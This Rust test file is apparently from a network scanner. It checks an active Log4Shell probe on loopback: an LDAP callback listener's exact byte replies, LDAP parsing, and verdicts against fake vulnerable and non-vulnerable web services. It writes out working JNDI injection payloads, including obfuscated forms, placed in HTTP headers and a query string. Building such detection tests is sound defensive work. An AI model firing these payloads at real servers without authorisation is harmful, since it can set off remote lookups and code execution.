//! The active Log4Shell probe on loopback: the LDAP listener's answers byte by byte and
//! within 100 ms, what it refuses, and the verdicts against fake HTTP services that do or do
//! not perform the lookup (one of them from another address than its own).

#![allow(clippy::unwrap_used)]

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use praxcheck_model::Log4ShellVerdict;
use praxcheck_netscan::active::{self, ActiveOptions, HttpTarget, Listener, ldap};
use praxcheck_netscan::engine::Gate;

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

/// The JVM's anonymous bind (observed: OpenJDK 17, log4j-core 2.14.1).
const BIND: [u8; 14] = [
    0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00,
];

/// The JVM's search for base DN `t12bd8a2703bb` (observed, 81 bytes).
fn search() -> Vec<u8> {
    let hex = "304f020102632d040d743132626438613237303362620a01000a0103020100020100010100870b6f626a656374436c61737330" .to_owned()
        + "00a01b30190417322e31362e3834302e312e3131333733302e332e342e32";
    (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
        .collect()
}

fn read_exact_timed(c: &mut TcpStream, n: usize) -> (Vec<u8>, Duration) {
    let start = Instant::now();
    let mut b = vec![0u8; n];
    c.read_exact(&mut b).unwrap();
    (b, start.elapsed())
}

/// Runs the listener on a runtime thread; returns its address and a stop handle.
fn listener() -> (
    SocketAddr,
    std::sync::mpsc::Sender<()>,
    thread::JoinHandle<Vec<active::Seen>>,
) {
    let (tx_addr, rx_addr) = std::sync::mpsc::channel();
    let (tx_stop, rx_stop) = std::sync::mpsc::channel::<()>();
    let h = thread::spawn(move || {
        let rt = rt();
        rt.block_on(async move {
            let l = Listener::bind("127.0.0.1".parse().unwrap(), 0)
                .await
                .unwrap();
            tx_addr.send(l.addr).unwrap();
            // Wait for the stop signal without blocking the runtime (bounded: 30 s).
            for _ in 0..3000 {
                if rx_stop.try_recv().is_ok() {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            l.stop()
        })
    });
    (rx_addr.recv().unwrap(), tx_stop, h)
}

#[test]
fn the_listener_answers_bind_then_no_such_object_then_closes_within_100_ms() {
    assert_eq!(search().len(), 81);
    let (addr, stop, h) = listener();
    let mut c = TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    c.write_all(&BIND).unwrap();
    let (b, t) = read_exact_timed(&mut c, 14);
    assert_eq!(
        b,
        [
            0x30, 0x0c, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00
        ]
    );
    assert!(t < Duration::from_millis(100), "bind answered after {t:?}");
    c.write_all(&search()).unwrap();
    let (b, t) = read_exact_timed(&mut c, 14);
    assert_eq!(
        b,
        [
            0x30, 0x0c, 0x02, 0x01, 0x02, 0x65, 0x07, 0x0a, 0x01, 0x20, 0x04, 0x00, 0x04, 0x00
        ]
    );
    assert!(
        t < Duration::from_millis(100),
        "search answered after {t:?}"
    );
    // Then nothing more: the connection is closed.
    let mut rest = Vec::new();
    c.read_to_end(&mut rest).unwrap();
    assert!(rest.is_empty(), "{rest:?}");

    // A bind sent byte by byte is answered too; a silent connection does not hold up others.
    let _silent = TcpStream::connect(addr).unwrap();
    let mut c = TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    for byte in BIND {
        c.write_all(&[byte]).unwrap();
    }
    let (b, t) = read_exact_timed(&mut c, 14);
    assert_eq!(b[5], 0x61);
    assert!(t < Duration::from_millis(100), "{t:?}");
    drop(c);

    // Not LDAP: closed without a byte.
    let mut c = TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    c.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
    let mut rest = Vec::new();
    let _ = c.read_to_end(&mut rest);
    assert!(rest.is_empty());

    stop.send(()).unwrap();
    let seen = h.join().unwrap();
    let dns: Vec<_> = seen.iter().filter_map(|s| s.dn.clone()).collect();
    assert_eq!(dns, ["t12bd8a2703bb"]);
    assert!(seen.iter().all(|s| s.peer.to_string() == "127.0.0.1"));
}

#[test]
fn the_ldap_messages_are_exact() {
    assert_eq!(ldap::parse(&BIND), ldap::Request::Bind(1));
    assert_eq!(
        ldap::parse(&search()),
        ldap::Request::Search(2, "t12bd8a2703bb".to_owned())
    );
    assert_eq!(ldap::message_len(&BIND[..5]), None);
    assert_eq!(ldap::message_len(&BIND), Some(Ok(14)));
    assert_eq!(ldap::message_len(b"GET /"), Some(Err(())));
    // A message id above 127 is encoded as a positive INTEGER.
    assert_eq!(
        ldap::bind_success(300),
        [
            0x30, 0x0d, 0x02, 0x02, 0x01, 0x2c, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04,
            0x00
        ]
    );
    assert_eq!(
        ldap::search_done_no_such_object(200),
        [
            0x30, 0x0d, 0x02, 0x02, 0x00, 0xc8, 0x65, 0x07, 0x0a, 0x01, 0x20, 0x04, 0x00, 0x04,
            0x00
        ]
    );
    // An unbind, a modify, a truncated search: the listener closes.
    assert_eq!(
        ldap::parse(&[0x30, 0x05, 0x02, 0x01, 0x03, 0x42, 0x00]),
        ldap::Request::Other
    );
    assert_eq!(ldap::parse(&search()[..40]), ldap::Request::Other);
}

#[test]
fn payloads_have_one_token_per_injection_point_and_form() {
    let ip: IpAddr = "192.168.1.5".parse().unwrap();
    assert_eq!(
        active::payload("plain", ip, 1389, "pxab"),
        "${jndi:ldap://192.168.1.5:1389/pxab}"
    );
    assert_eq!(
        active::payload("lower", ip, 1389, "pxab"),
        "${${lower:j}ndi:${lower:l}dap://192.168.1.5:1389/pxab}"
    );
    assert_eq!(
        active::payload("default-value", ip, 1389, "pxab"),
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.168.1.5:1389/pxab}"
    );
    let toks: [String; 5] = std::array::from_fn(|_| active::new_token());
    let set: std::collections::BTreeSet<_> = toks.iter().collect();
    assert_eq!(set.len(), 5);
    assert!(toks.iter().all(|t| t.len() == 18 && t.starts_with("px")));
    let req = String::from_utf8(active::request(
        "10.0.0.2:8080".parse().unwrap(),
        ip,
        1389,
        "plain",
        &toks,
    ))
    .unwrap();
    assert!(req.starts_with("GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F192.168.1.5%3A1389%2F"));
    for (k, h) in ["User-Agent", "X-Forwarded-For", "X-Api-Version", "Referer"]
        .iter()
        .enumerate()
    {
        assert!(
            req.contains(&format!(
                "\r\n{h}: ${{jndi:ldap://192.168.1.5:1389/{}}}\r\n",
                toks[k]
            )),
            "{req}"
        );
    }
    assert!(req.contains(&toks[4]));
}

/// A fake web service: when `lookup_from` is set, it performs the LDAP lookup of the plain
/// payload in User-Agent and X-Forwarded-For (only those) from that source address (bind, search, read
/// the answer), like a vulnerable Log4j; then answers `200 ok`.
fn web(lookup_from: Option<&'static str>) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    thread::spawn(move || {
        for c in l.incoming().take(16) {
            let Ok(mut c) = c else { continue };
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            let mut b = vec![0u8; 8192];
            let n = c.read(&mut b).unwrap_or(0);
            let req = String::from_utf8_lossy(&b[..n]).into_owned();
            if let Some(src) = lookup_from {
                for line in req.lines() {
                    // Like VulnServer: only these two headers are logged.
                    if !line.starts_with("User-Agent:") && !line.starts_with("X-Forwarded-For:") {
                        continue;
                    }
                    let Some((_, v)) = line.split_once(": ${jndi:ldap://") else {
                        continue;
                    };
                    let Some((hp, tok)) = v.trim_end_matches('}').split_once('/') else {
                        continue;
                    };
                    lookup(src, hp.parse().unwrap(), tok);
                }
            }
            let _ = c.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
            );
        }
    });
    port
}

fn lookup(src: &str, to: SocketAddr, token: &str) {
    let rt = rt();
    rt.block_on(async {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let s = tokio::net::TcpSocket::new_v4().unwrap();
        s.bind(format!("{src}:0").parse().unwrap()).unwrap();
        let mut c = s.connect(to).await.unwrap();
        c.write_all(&BIND).await.unwrap();
        let mut b = [0u8; 14];
        c.read_exact(&mut b).await.unwrap();
        let mut m = vec![0x04, u8::try_from(token.len()).unwrap()];
        m.extend_from_slice(token.as_bytes());
        m.extend([
            0x0a, 1, 0, 0x0a, 1, 3, 2, 1, 0, 2, 1, 0, 1, 1, 0, 0x87, 0x0b,
        ]);
        m.extend(b"objectClass");
        m.extend([0x30, 0x00]);
        let mut op = vec![0x63, u8::try_from(m.len()).unwrap()];
        op.extend(m);
        let mut body = vec![0x02, 0x01, 0x02];
        body.extend(op);
        let mut msg = vec![0x30, u8::try_from(body.len()).unwrap()];
        msg.extend(body);
        c.write_all(&msg).await.unwrap();
        c.read_exact(&mut b).await.unwrap();
    });
}

#[test]
fn a_lookup_is_reported_with_its_path_and_no_lookup_is_not_detected() {
    let vulnerable = web(Some("127.0.0.1"));
    let proxied = web(Some("127.0.0.2"));
    let quiet = web(None);
    let lo: IpAddr = "127.0.0.1".parse().unwrap();
    let targets: Vec<HttpTarget> = [vulnerable, proxied, quiet]
        .iter()
        .map(|p| HttpTarget {
            addr: SocketAddr::new(lo, *p),
            tls: false,
        })
        .collect();
    let gate = Arc::new(Gate::new(&[lo], 4, 16, Duration::from_secs(1)));
    let o = ActiveOptions {
        callback_port: 0,
        callback_wait: Duration::from_millis(300),
        request_timeout: Duration::from_secs(3),
    };
    let out = rt().block_on(active::probe(&targets, Arc::clone(&gate), &o));
    assert_eq!(out.len(), 3);
    // 3 forms, one request each, one connection each.
    assert!(out.iter().all(|p| p.requests == 3), "{out:#?}");
    assert_eq!(gate.attempts.load(std::sync::atomic::Ordering::Relaxed), 9);

    let v = &out[0];
    assert_eq!(v.verdict, Log4ShellVerdict::LookupExecuted);
    let paths: Vec<_> = v
        .callbacks
        .iter()
        .map(|c| (c.injection_point.as_str(), c.form.as_str(), c.from_target))
        .collect();
    assert_eq!(
        paths,
        [
            ("user-agent", "plain", true),
            ("x-forwarded-for", "plain", true)
        ]
    );

    let p = &out[1];
    assert_eq!(p.verdict, Log4ShellVerdict::LookupExecuted);
    assert!(
        p.callbacks
            .iter()
            .all(|c| !c.from_target && c.peer == "127.0.0.2")
    );

    assert_eq!(out[2].verdict, Log4ShellVerdict::NotDetected);
    assert!(out[2].callbacks.is_empty());

    // No web service: no listener, no wait.
    let started = Instant::now();
    let slow = ActiveOptions {
        callback_wait: Duration::from_secs(10),
        ..o
    };
    assert!(rt().block_on(active::probe(&[], gate, &slow)).is_empty());
    assert!(started.elapsed() < Duration::from_secs(1));
}
